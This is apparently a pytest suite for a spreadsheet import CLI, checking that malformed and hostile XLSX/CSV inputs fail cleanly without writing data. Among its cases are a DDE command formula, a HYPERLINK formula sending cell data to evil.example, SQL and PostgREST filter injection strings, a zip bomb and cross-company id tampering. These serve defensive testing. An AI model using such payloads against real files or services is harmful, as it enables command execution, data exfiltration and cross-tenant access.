"""Bad inputs: a catalogue of broken files and cells, each run through `bulkio plan` and `bulkio apply --yes`.

Each must end in a clear error that names the place (the file, and the sheet, row and column where there is one),
with no traceback, and must write nothing: every table of the sandbox (all companies) is the same before and
after. Files are made as people make them: an export edited with openpyxl, a CSV edited as text, or bytes.
"""

from __future__ import annotations

import codecs
import csv
import io
import os
import re
import resource
import subprocess
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from msoffcrypto.format.ooxml import OOXMLFile
from typer.testing import CliRunner
from xlsxwriter.utility import xl_col_to_name

from bulkio.api.client import Client
from bulkio.cli.app import app
from bulkio.export.table import export_table
from bulkio.sandbox import Sandbox
from bulkio.sheets.read import sheet_xml_member
from bulkio.sheets.write import write_csv

from .helpers import copy_export, edit_workbook, everything, sheet_rows

runner = CliRunner()


@dataclass(frozen=True)
class Ctx:
    """What the builders start from: the session's export (XLSX and CSV) and the sandbox."""

    xlsx: Path
    csv: Path
    folder: Path
    sandbox: Sandbox

    def cells(self) -> dict[int, dict[str, Any]]:
        return sheet_rows(self.xlsx)

    def edited(self, edits: dict[tuple[int, str], Any] | None = None, *, append: list[dict[str, Any]] | None = None,
               name: str = "customers.xlsx") -> Path:
        return edit_workbook(copy_export(self.xlsx, self.folder / name), edits, append=append or [])

    def with_book(self, change: Callable[[Any], None], name: str = "customers.xlsx") -> Path:
        path = copy_export(self.xlsx, self.folder / name)
        book = openpyxl.load_workbook(path)
        change(book)
        book.save(path)
        return path

    def csv_text(self) -> str:
        return self.csv.read_text(encoding="utf-8-sig")

    def csv_file(self, text: str | bytes, name: str = "customers.csv") -> Path:
        path = self.folder / name
        path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
        return path

    def csv_cell(self, row: int, column: str, value: str) -> Path:
        """The exported CSV with one cell replaced (`row` as Excel numbers it: the header is row 1)."""
        rows = list(csv.reader(io.StringIO(self.csv_text())))
        rows[row - 1][rows[0].index(column)] = value
        out = io.StringIO()
        csv.writer(out, lineterminator="\r\n").writerows(rows)
        return self.csv_file(out.getvalue())

    def xlsx_bytes(self) -> bytes:
        return self.xlsx.read_bytes()

    def zip_with(self, members: dict[str, bytes], name: str = "customers.xlsx") -> Path:
        """The export with some zip members replaced (raw sheet XML, as another program might write it)."""
        path = self.folder / name
        with zipfile.ZipFile(self.xlsx) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
            for item in source.infolist():
                target.writestr(item.filename, members.get(item.filename, source.read(item.filename)))
        return path


@dataclass(frozen=True)
class Bad:
    name: str
    build: Callable[[Ctx], Path]
    place: tuple[str, ...]
    """Text the error must show besides the file's name (row, column, ...)."""
    resource: str | None = None
    outcome: str = "error"
    """``error``: exit 1; ``warning``: the edit is ignored with a warning naming the place (exit 0)."""
    names_file: bool = True
    isolate: bool = False
    """Run the CLI in a subprocess under a memory limit (the input may take the whole process down)."""


def _set(column: str, value: Any, row: int = 5) -> Callable[[Ctx], Path]:
    return lambda c: c.edited({(row, column): value})


def _new(**values: Any) -> Callable[[Ctx], Path]:
    return lambda c: c.edited(append=[{"name": "Brand New Bad Ltd", **values}])


def _csv(row: int, column: str, value: str) -> Callable[[Ctx], Path]:
    return lambda c: c.csv_cell(row, column, value)


def _other_company_id(c: Ctx) -> Path:
    theirs = next(r for r in c.sandbox.rows() if r["companyId"] == c.sandbox.other_company_id)
    return c.edited({(6, "id"): theirs["id"], (6, "name"): theirs["name"], (6, "logo"): "stolen.png"})


def _other_company_row(c: Ctx) -> Path:
    theirs = next(r for r in c.sandbox.rows() if r["companyId"] == c.sandbox.other_company_id)
    return c.edited(append=[{"id": theirs["id"], "name": "Hijacked Ltd", "_action": "delete"}])


def _merged(c: Ctx) -> Path:
    return c.with_book(lambda b: b["customer"].merge_cells("H4:H6"))


def _rename_sheet(c: Ctx) -> Path:
    def change(book: Any) -> None:
        for sheet in book.sheetnames:
            if sheet != "customer":
                del book[sheet]
        book["customer"].title = "Sheet1"
    return c.with_book(change)


def _duplicate_header(c: Ctx) -> Path:
    def change(book: Any) -> None:
        book["customer"]["H1"] = "name"
    return c.with_book(change)


def _blank_header(c: Ctx) -> Path:
    def change(book: Any) -> None:
        book["customer"]["H1"] = None
    return c.with_book(change)


def _unknown_header(c: Ctx) -> Path:
    def change(book: Any) -> None:
        book["customer"]["H1"] = "lgoo"
    return c.with_book(change)


def _outside_header(c: Ctx) -> Path:
    def change(book: Any) -> None:
        sheet = book["customer"]
        sheet.cell(row=7, column=sheet.max_column + 2).value = "stray"
    return c.with_book(change)


def _empty_first_row(c: Ctx) -> Path:
    def change(book: Any) -> None:
        book["customer"].insert_rows(1)
    return c.with_book(change)


def _formula(text: str, column: str = "logo") -> Callable[[Ctx], Path]:
    # openpyxl writes formulas without a computed value, as a script or a non-calculating program does
    return _set(column, text)


def _error_value(column: str, formula: str, error: str, row: int = 4) -> Callable[[Ctx], Path]:
    """A formula Excel computed to an error value (#DIV/0!, #N/A) in a cell that held a value, as Excel saves it:
    the formula and its cached error (``t="e"``), in the export's sheet XML."""
    def build(c: Ctx) -> Path:
        assert c.cells()[row][column] not in (None, "")
        with zipfile.ZipFile(c.xlsx) as archive:
            xml = archive.read("xl/worksheets/sheet1.xml")
        ref = f"{_letter(c, column)}{row}".encode()
        cell = re.compile(rb'<c r="' + ref + rb'"[^>]*?(?:/>|>.*?</c>)', re.S)
        assert cell.search(xml)
        new = b'<c r="' + ref + b'" t="e"><f>' + formula.encode() + b"</f><v>" + error.encode() + b"</v></c>"
        return c.zip_with({"xl/worksheets/sheet1.xml": cell.sub(new, xml, count=1)})
    return build


def _letter(c: Ctx, column: str) -> str:
    return xl_col_to_name(list(next(iter(c.cells().values()))).index(column))


def _truncated(c: Ctx) -> Path:
    data = c.xlsx_bytes()
    return c.csv_file(data[: len(data) // 2], "customers.xlsx")


def _not_a_zip(c: Ctx) -> Path:
    return c.csv_file("id,name\n1,Acme\n", "customers.xlsx")


def _empty_xlsx(c: Ctx) -> Path:
    return c.csv_file(b"", "customers.xlsx")


def _foreign_zip(c: Ctx) -> Path:
    path = c.folder / "customers.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("readme.txt", "not a workbook")
    return path


def _ole2(c: Ctx) -> Path:
    return c.csv_file(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4096, "customers.xlsx")


def _encrypted(c: Ctx) -> Path:
    target = c.folder / "customers.xlsx"
    with open(c.xlsx, "rb") as plain, open(target, "wb") as out:
        OOXMLFile(plain).encrypt("secret", out)
    return target


def _broken_sheet_xml(c: Ctx) -> Path:
    with zipfile.ZipFile(c.xlsx) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    return c.zip_with({"xl/worksheets/sheet1.xml": xml[: len(xml) // 3]})


def _zip_bomb(c: Ctx) -> Path:
    """A sheet whose XML inflates 1000:1 (16 MB of padding in a few kB): a decompression bomb, scaled down."""
    with zipfile.ZipFile(c.xlsx) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    padded = xml.replace(b"<sheetData>", b"<sheetData>" + b" " * (16 << 20), 1)
    return c.zip_with({"xl/worksheets/sheet1.xml": padded})


def _far_cell(c: Ctx) -> Path:
    """One stray value at the far corner (XFD1048576): every row and column up to it would be read as the sheet."""
    with zipfile.ZipFile(c.xlsx) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    return c.zip_with({"xl/worksheets/sheet1.xml": re.sub(rb"</sheetData>", far, xml, count=1)})


def _far_cell_in(hidden: str) -> Callable[[Ctx], Path]:
    """The same stray far-corner value, in one of the hidden sheets (its dimension tag left as it was)."""
    def make(c: Ctx) -> Path:
        with zipfile.ZipFile(c.xlsx) as archive:
            member = sheet_xml_member(archive, hidden)
            assert member is not None
            xml = archive.read(member)
        far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
        return c.zip_with({member: re.sub(rb"</sheetData>", far, xml, count=1)})
    return make


def _sheet_text(c: Ctx, text: bytes) -> Path:
    """The export with the first customer's name replaced in the sheet XML (`text`, XML-escaped already)."""
    with zipfile.ZipFile(c.xlsx) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    name = next(iter(c.cells().values()))["name"]
    escaped = name.replace("&", "&amp;").encode()
    assert escaped in xml
    return c.zip_with({"xl/worksheets/sheet1.xml": xml.replace(escaped, text, 1)})


def _nul_xlsx(c: Ctx) -> Path:
    return _sheet_text(c, b"Nul_x0000_Byte")  # OOXML's escape for a character XML cannot hold


def _csv_nul(c: Ctx) -> Path:
    return c.csv_file(c.csv_text().replace("Müller", "Mül\x00ler", 1))


def _csv_control(c: Ctx) -> Path:
    return c.csv_cell(4, "name", "Evil\x1b[2J\x07 Corp")


def _csv_long(c: Ctx) -> Path:
    return c.csv_cell(4, "name", "A" * 1_000_000)


def _xlsx_long(c: Ctx) -> Path:
    return _sheet_text(c, b"B" * 1_000_000)  # Excel itself stops at 32,767 characters a cell


def _csv_duplicate_header(c: Ctx) -> Path:
    head, rest = c.csv_text().split("\n", 1)
    return c.csv_file(head.replace("logo", "name", 1) + "\n" + rest)


def _csv_encoding(encoding: str, bom: bytes = b"") -> Callable[[Ctx], Path]:
    def build(c: Ctx) -> Path:
        text = "id,name,phone\r\n,東京精密株式会社,+81 3 1234 5678\r\n"
        return c.csv_file(bom + text.encode(encoding))
    return build


def _csv_double_bom(c: Ctx) -> Path:
    return c.csv_file(codecs.BOM_UTF8 + codecs.BOM_UTF8 + c.csv_text().encode("utf-8"))


def _csv_utf32(c: Ctx) -> Path:
    return c.csv_file(c.csv_text().encode("utf-32"))


def _csv_pipe(c: Ctx) -> Path:
    return c.csv_file("id|name|phone\r\n|Pipe Ltd|+1 555 0100\r\n")


def _csv_ragged(c: Ctx) -> Path:
    lines = c.csv_text().split("\n")
    lines[3] += ",surplus"
    return c.csv_file("\n".join(lines))


def _csv_open_quote(c: Ctx) -> Path:
    lines = c.csv_text().split("\n")
    lines[3] = lines[3].replace(",", ',"', 2)
    return c.csv_file("\n".join(lines))


def _csv_empty(c: Ctx) -> Path:
    return c.csv_file(b"")


def _csv_binary(c: Ctx) -> Path:
    return c.csv_file(c.xlsx_bytes()[:2000].replace(b"PK", b"QK"))


def _pdf(c: Ctx) -> Path:
    return c.csv_file(b"%PDF-1.4\n", "customers.pdf")


def _missing(c: Ctx) -> Path:
    return c.folder / "no-such-file.xlsx"


def _snapshot_damaged(c: Ctx) -> Path:
    def change(book: Any) -> None:
        book["_base"]["B3"] = "{not json"
    return c.with_book(change)


def _name_taken(c: Ctx) -> Path:
    """A row deleted from the sheet (not from the server) and a new row with its name."""
    name = c.cells()[3]["name"]

    def change(book: Any) -> None:
        sheet = book["customer"]
        sheet.delete_rows(3)
        sheet.cell(row=sheet.max_row + 1, column=3).value = name
    return c.with_book(change)


def _duplicate_ids(c: Ctx) -> Path:
    cells = c.cells()
    return c.edited({(7, "id"): cells[6]["id"], (7, "logo"): "dup.png"})


def _unknown_id(c: Ctx) -> Path:
    return c.edited({(6, "id"): "cust_doesNotExist000000000", (6, "logo"): "x.png"})


KNOWN_BUGS: dict[str, str] = {
    # entry -> the bulkio bug it shows (reported); such entries are strict xfails until the bug is fixed
}


BAD: list[Bad] = [
    # ------------------------------------------------------------------ whole files
    Bad("missing file", _missing, ("no such file",)),
    Bad("not .xlsx or .csv (a PDF)", _pdf, (".xlsx and .csv",)),
    Bad("empty .xlsx (0 bytes)", _empty_xlsx, ("cannot open",)),
    Bad("truncated .xlsx (half a download)", _truncated, ("cannot open",)),
    Bad("text renamed .xlsx", _not_a_zip, ("not a workbook",)),
    Bad("zip without a workbook", _foreign_zip, ("cannot open",)),
    Bad("Excel 97-2003 / OLE2 container", _ole2, (".xls",)),
    Bad("password-protected workbook", _encrypted, ("encrypted",)),
    Bad("sheet XML cut short", _broken_sheet_xml, ("damaged",)),
    Bad("damaged export snapshot (_base)", _snapshot_damaged, ("_base",)),
    Bad("unknown sheet / table (only 'Sheet1', no metadata)", _rename_sheet, ("cannot tell which table",)),
    Bad("unknown table (--resource)", lambda c: c.edited(), ("nosuchtable",), resource="nosuchtable",
        names_file=False),
    Bad("zip bomb (sheet XML inflates 1000:1 to 16 MB)", _zip_bomb, ("too large",)),
    Bad("oversized sheet (a value at XFD1048576)", _far_cell, ("XFD1048576",), isolate=True),
    Bad("oversized snapshot sheet (a value at XFD1048576 in _base)", _far_cell_in("_base"), ("_base",),
        isolate=True),
    Bad("oversized metadata sheet (a value at XFD1048576 in _bulkio)", _far_cell_in("_bulkio"), ("XFD1048576",),
        isolate=True),
    # ------------------------------------------------------------------ headers and layout
    Bad("duplicate header", _duplicate_header, ("row 1", "column H", "twice")),
    Bad("blank header", _blank_header, ("row 1", "column H")),
    Bad("unknown column", _unknown_header, ("lgoo",)),
    Bad("value outside the header's columns", _outside_header, ("row 7",)),
    Bad("empty first row", _empty_first_row, ("row 1",)),
    Bad("merged cells", _merged, ("H4:H6",)),
    # ------------------------------------------------------------------ formulas
    Bad("formula without a computed value", _formula("=1+1", "taxPercent"), ("row 5", "column V")),
    Bad("injected DDE =cmd|' /C calc'!A0", _formula("=cmd|' /C calc'!A0"), ("row 5", "column H")),
    Bad("injected =HYPERLINK exfiltration", _formula('=HYPERLINK("http://evil.example/?"&A2,"x")'),
        ("row 5", "column H")),
    Bad("formula computed to #DIV/0! (a required number)", _error_value("taxPercent", "1/0", "#DIV/0!"),
        ("row 4", "(taxPercent)", "#DIV/0!")),
    Bad("formula computed to #N/A (an optional text)", _error_value("website", "NA()", "#N/A", 3),
        ("row 3", "(website)", "#N/A")),
    # ------------------------------------------------------------------ cells: types and ranges
    Bad("text in a number (taxPercent)", _set("taxPercent", "twenty"), ("row 5", "(taxPercent)")),
    Bad("percentage as a whole number (20)", _set("taxPercent", 20), ("row 5", "(taxPercent)")),
    Bad("negative number", _set("taxPercent", -0.1), ("row 5", "(taxPercent)")),
    Bad("huge number 1e308", _set("taxPercent", 1e308), ("row 5", "(taxPercent)")),
    Bad("NaN in a number (CSV)", _csv(5, "taxPercent", "NaN"), ("row 5", "(taxPercent)"), resource="customer"),
    Bad("Infinity in a number (CSV)", _csv(5, "taxPercent", "inf"), ("row 5", "(taxPercent)"), resource="customer"),
    Bad("1e999 overflow in a custom number (CSV)", _csv(5, "customFields.creditLimit", "1e999"),
        ("row 5", "(customFields.creditLimit)"), resource="customer"),
    Bad("boolean in a number", _set("taxPercent", True), ("row 5", "(taxPercent)")),
    Bad("date in a number", _set("taxPercent", __import__("datetime").datetime(2026, 1, 1)), ("row 5",)),
    Bad("phone number turned into a number", _set("phone", 442079460961), ("row 5", "(phone)")),
    Bad("bad e-mail in defaultCc", _set("defaultCc", "not-an-email"), ("row 5", "(defaultCc)")),
    Bad("broken JSON list in tags", _set("tags", '["vip", '), ("row 5", "(tags)")),
    Bad("unknown label (customer type)", _set("customerTypeId", "Martian"), ("row 5", "(customerTypeId)")),
    Bad("unknown currency code", _set("currencyCode", "XYZ"), ("row 5", "(currencyCode)")),
    Bad("currency code too long", _set("currencyCode", "EURO"), ("row 5", "(currencyCode)")),
    Bad("_action other than delete", _set("_action", "remove"), ("row 5", "(_action)")),
    Bad("new row without a name", _new(name=None, logo="nameless.png"), ("(name)",)),
    Bad("new row whose name exists on the server", _name_taken, ("(name)", "already")),
    Bad("two new rows with the same name", lambda c: c.edited(append=[{"name": "Twin Ltd"}, {"name": "Twin Ltd"}]),
        ("(name)",)),
    Bad("duplicate id", _duplicate_ids, ("row 7", "(id)")),
    Bad("unknown id", _unknown_id, ("row 6", "(id)")),
    Bad("SQL injection in an id", _set("id", "cust_x' OR '1'='1"), ("row 5", "(id)")),
    Bad("PostgREST filter injection in an id", _set("id", "x),or=(companyId.neq.nobody"), ("row 5", "(id)")),
    Bad("PostgREST filter injection in a label", _set("customerTypeId", "Retail),or=(name.neq.x"),
        ("row 5", "(customerTypeId)")),
    Bad("50,000-character text (CSV, past an Excel cell)", _csv(5, "logo", "L" * 50_000), ("row 5", "(logo)"),
        resource="customer"),
    Bad("id of another company's customer (update)", _other_company_id, ("row 6", "(id)")),
    Bad("id of another company's customer (delete)", _other_company_row, ("(id)",)),
    Bad("date before 1900 in a read-only date", _set("createdAt", "1899-12-31"),
        ("│ 5 │ J createdAt │", "read-only"),
        outcome="warning"),
    Bad("Excel serial date 0 (1900-01-00) in a read-only date", _set("createdAt", 0),
        ("│ 5 │ J createdAt │", "read-only"),
        outcome="warning"),
    # ------------------------------------------------------------------ text content
    Bad("1M-character cell (CSV)", _csv_long, ("row 4", "(name)"), resource="customer"),
    Bad("1M-character cell (XLSX)", _xlsx_long, ("(name)",)),
    Bad("control characters (ESC, BEL) in a name (CSV)", _csv_control, ("row 4", "(name)"), resource="customer"),
    Bad("NUL byte in a CSV", _csv_nul, ("NUL",), resource="customer"),
    Bad("NUL character in an XLSX cell", _nul_xlsx, ("(name)",)),
    # ------------------------------------------------------------------ CSV encodings and shapes
    Bad("CSV duplicate header", _csv_duplicate_header, ("row 1", "twice"), resource="customer"),
    Bad("CSV in Shift-JIS", _csv_encoding("shift_jis"), ("UTF-8",), resource="customer"),
    Bad("CSV UTF-16 without a BOM", _csv_encoding("utf-16-le"), ("NUL",), resource="customer"),
    Bad("CSV with two UTF-8 BOMs", _csv_double_bom, ("column A", "\\ufeffid"), resource="customer"),
    Bad("CSV in UTF-32 (BOM)", _csv_utf32, ("UTF",), resource="customer"),
    Bad("CSV with '|' separators", _csv_pipe, ("id|name|phone",), resource="customer"),
    Bad("CSV row longer than the header", _csv_ragged, ("row 4",), resource="customer"),
    Bad("CSV with an unterminated quote", _csv_open_quote, ("row 4",), resource="customer"),
    Bad("empty CSV (0 bytes)", _csv_empty, ("empty",), resource="customer"),
    Bad("binary data named .csv", _csv_binary, ("binary",), resource="customer"),
    Bad("CSV without --resource", lambda c: c.csv_file(c.csv_text()), ("which table",)),
]


@pytest.fixture(scope="module")
def exported_csv(sandbox_server: Sandbox, tmp_path_factory: pytest.TempPathFactory) -> Path:
    sandbox_server.reset()
    path = tmp_path_factory.mktemp("export-csv") / "customers.csv"
    with Client(sandbox_server.url, sandbox_server.api_key) as client:
        write_csv(export_table(client, "customer"), path)
    return path


def _env(sandbox: Sandbox) -> dict[str, str]:
    return {"BULKIO_BASE_URL": sandbox.url, "BULKIO_API_KEY": sandbox.api_key, "BULKIO_CONFIG": "",
            "COLUMNS": "250"}


def _limit_memory() -> None:  # in the child, before exec: the input may ask for more memory than the machine has
    resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))


def _run(sandbox: Sandbox, args: list[str], isolate: bool) -> tuple[int, str, BaseException | None]:
    """(exit code, output, exception) of the CLI: in-process, or in a memory-limited subprocess."""
    if not isolate:
        result = runner.invoke(app, args, env=_env(sandbox))
        return result.exit_code, result.output, result.exception
    done = subprocess.run([sys.executable, "-c", "from bulkio.cli import main; main()", *args],
                          env={**os.environ, **_env(sandbox)}, capture_output=True, timeout=120,
                          preexec_fn=_limit_memory)
    output = done.stdout.decode(errors="replace") + done.stderr.decode(errors="replace")
    crash = None if done.returncode in (0, 1, 3, 4) else RuntimeError(f"exit {done.returncode}: {output[-500:]}")
    return done.returncode, output, crash


def _cases() -> list[Any]:
    return [pytest.param(b, id=b.name, marks=[pytest.mark.xfail(strict=True, reason=KNOWN_BUGS[b.name])]
                         if b.name in KNOWN_BUGS else []) for b in BAD]


def test_the_catalogue_is_big_and_distinct() -> None:
    assert len(BAD) >= 40 and len({b.name for b in BAD}) == len(BAD)


@pytest.mark.parametrize("bad", _cases())
def test_bad_input_is_a_clear_error_and_writes_nothing(bad: Bad, sandbox: Sandbox, exported: Path,
                                                       exported_csv: Path, tmp_path: Path) -> None:
    path = bad.build(Ctx(exported, exported_csv, tmp_path, sandbox))
    before = everything(sandbox)
    extra = ["--resource", bad.resource] if bad.resource else []
    outputs = []
    for args in (["plan", str(path), *extra], ["apply", str(path), "--yes", *extra]):
        code, output, exception = _run(sandbox, args, bad.isolate)
        output = " ".join(output.split())
        assert exception is None or isinstance(exception, SystemExit), f"crashed: {exception!r}\n{output[-2000:]}"
        assert "Traceback" not in output
        assert code == (1 if bad.outcome == "error" else 0), output[-2000:]
        outputs.append(output)
    assert everything(sandbox) == before, "something was written"
    assert not [m for m, _ in sandbox.requests if m != "GET"]
    text = outputs[1]
    if bad.names_file:
        assert path.name in text, f"the message does not name the file:\n{text[-2000:]}"
    for part in bad.place:
        assert part in text, f"the message does not say {part!r}:\n{text[-2000:]}"
    if bad.outcome == "warning":
        assert "nothing to apply" in text
